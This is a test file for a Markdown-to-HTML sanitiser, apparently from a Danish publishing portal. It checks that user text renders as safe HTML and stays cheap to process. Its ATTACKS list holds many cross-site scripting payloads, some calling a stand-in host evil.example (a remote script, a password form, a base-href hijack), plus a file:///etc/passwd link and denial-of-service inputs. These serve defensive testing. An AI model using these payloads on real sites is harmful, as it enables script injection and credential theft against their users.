"""Text that people write becomes safe HTML, whatever it is."""

import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from editorial.text import MAX_CELLS, MAX_QUOTES_WITHIN, plain, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p style='position:fixed'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://example.dk "onmouseover=alert(1)")',
    '[x](https://example.dk"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]


class Tags(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


ALLOWED = {"p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "h3", "h4", "code", "pre", "hr", "table",
           "thead", "tbody", "tr", "th", "td"}  # fmt: skip


def assert_safe(html: str) -> None:
    """Only our elements, no attribute that acts, only addresses of the web and of mail."""
    for tag, attributes in Tags(html).found:
        assert tag in ALLOWED, html
        assert set(attributes) <= {"href", "title", "rel", "start"}, html
        if href := attributes.get("href"):
            scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", href)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, html


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_become_text(text: str) -> None:
    """In HTML and in plain text."""
    assert_safe(render_markdown(text))
    assert not re.search(r"<(script|img|svg|iframe)\b[^>]*>", str(render_markdown(text)), re.I)


@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!#*_-|:/\\& \n\tabjavscriptx=&;0\x00"), max_size=120))
def test_nothing_gets_through(text: str) -> None:
    """Any text, made of what attacks are made of."""
    assert_safe(render_markdown(text))
    plain(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Stor\n\n##### Lille", "<h3>Stor</h3>\n<h4>Lille</h4>\n"),
        ("*a* **b**", "<p><em>a</em> <strong>b</strong></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("Æ & Å", "<p>Æ &amp; Å</p>\n"),
        ("", ""),
        (
            "[x](https://example.dk)",
            '<p><a href="https://example.dk" rel="nofollow noopener ugc">x</a></p>\n',
        ),
    ],
)
def test_what_people_write_looks_as_they_meant(text: str, html: str) -> None:
    """Headings never above those of the page."""
    assert str(render_markdown(text)) == html


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("**Fed** og _skæv_", "Fed og skæv"),
        ("R&D, 3 < 5 og \"ja\" og 'nej'", "R&D, 3 < 5 og \"ja\" og 'nej'"),
        ("- et\n- to", "et to"),
        ("[link](https://example.dk)", "link"),
        ("<script>x</script>", "<script>x</script>"),
        ("&amp; bliver &", "& bliver &"),
    ],
)
def test_plain_text_is_what_a_reader_reads(text: str, words: str) -> None:
    """No markup, no character references: whoever shows it escapes it."""
    assert plain(text) == words


LENGTH = 20_000  # what a text field of the portal holds at most
EXPENSIVE = {
    "wide table with short rows": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "|a\n" * 5000,
    "many rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 5000,
    "many tables": ("|a|b|c|\n|-|-|-|\n" + "|\n" * 30 + "\n") * 300,
    "heads only": "|a|\n|-|\n" * 3000,
    "a table in a quote": "> |a|b|\n> |-|-|\n" + "> |x|y|\n" * 3000,
    "quotes with lazy lines": ">" * 5000 + "a\n" + "a\n" * 8000,
    "quotes": ">" * LENGTH,
    "brackets": "[" * LENGTH,
    "pictures": "![" * LENGTH,
    "half links": "[a][b" * LENGTH,
    "stars": "*a_ " * LENGTH,
    "backticks": " ".join("`" * n for n in range(1, 250)),
    "lists": "* " * LENGTH,
    "items": "* a\n" * LENGTH,
    "lines": "a\n" * LENGTH,
    "headings": "a\n=" * LENGTH,
    "angles": "<a" * LENGTH,
    "references": "[a]: <" * LENGTH,
}


@pytest.mark.parametrize("text", EXPENSIVE.values(), ids=EXPENSIVE)
def test_no_text_is_expensive(text: str) -> None:
    """Counted in Python calls, not in seconds: at most a hundred for each character."""
    calls = 0

    def count(frame: object, event: str, argument: object) -> None:
        nonlocal calls
        calls += event == "call"

    text = text[:LENGTH]
    before = sys.getprofile()
    sys.setprofile(count)
    try:
        html = render_markdown(text)
    finally:
        sys.setprofile(before)
    assert calls < 100 * LENGTH
    assert len(html) < 30 * LENGTH


def test_large_tables_and_deep_quotes_lose_nothing() -> None:
    """They are shown as they were written; smaller ones look as ever."""
    rows = "".join(f"| r{n} | x |\n" for n in range(MAX_CELLS))
    large = str(render_markdown("| a | b |\n|---|---|\n" + rows + "\n\n| c | d |\n|---|---|\n| e | f |\n"))
    assert large.count("<table>") == 1  # the small one that follows
    assert f"r{MAX_CELLS - 1}" in large
    deep = str(render_markdown(">" * 50 + " her"))
    assert deep.count("<blockquote>") == MAX_QUOTES_WITHIN
    assert "her" in deep


def test_ordinary_tables_and_links_are_as_before() -> None:
    table = "| a | b | c | d |\n|---|---|---|---|\n" + "| 1 | 2 | 3 | 4 |\n" * 200
    text = "Før\n" + table + "\n" + "[x](https://example.dk) " * 300 + "\n\n> en\n>\n> > to\n> > - tre\n"
    html = str(render_markdown(text))
    assert html.count("<tr>") == 201
    assert html.count("<a href=") == 300
    assert html.count("<blockquote>") == 2
